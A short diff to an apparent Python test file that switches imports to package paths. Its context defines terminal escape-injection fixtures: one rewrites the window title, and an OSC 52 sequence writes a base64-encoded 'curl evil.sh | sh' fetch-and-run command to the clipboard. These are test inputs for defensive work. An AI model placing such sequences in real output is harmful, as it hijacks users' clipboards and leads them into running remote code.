@@ -13,9 +13,9 @@ import contextlib
 import re
 import sqlite3
 
-from conftest import Page, tidings, write_config
-from faults import redirect
-from pages import DRUPAL_SOURCE, Listing
+from tests.helpers import Page, tidings, write_config
+from tests.faults import redirect
+from tests.pages import DRUPAL_SOURCE, Listing
 
 OSC_TITLE = "\x1b]0;PWNED-TITLE\x07"
 OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
